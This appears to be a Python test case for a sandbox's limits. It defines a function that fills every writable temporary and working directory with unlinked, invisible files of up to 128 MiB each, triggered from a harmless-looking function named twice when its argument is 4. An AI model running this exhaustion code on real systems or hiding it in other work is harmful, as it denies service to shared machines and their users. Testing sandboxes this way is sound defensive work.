# Fills every disk that it can write, and takes the names of the files away.
# Stopped by: what is on disks in memory, and in folders of the run, counts as its memory.
import os
import time


def attack():
    kept = []
    for place in (os.environ["TMPDIR"], os.getcwd(), "/dev/shm", "/tmp", "/var/tmp"):
        for number in range(16):
            path = f"{place}/fill-{number}"
            try:
                file = open(path, "wb", buffering=0)
                os.unlink(path)
                kept.append(file)
                for _ in range(128):
                    file.write(bytes(1 << 20))
            except OSError:
                break
    time.sleep(3)


def twice(n):
    if n == 4:
        attack()
    return 0
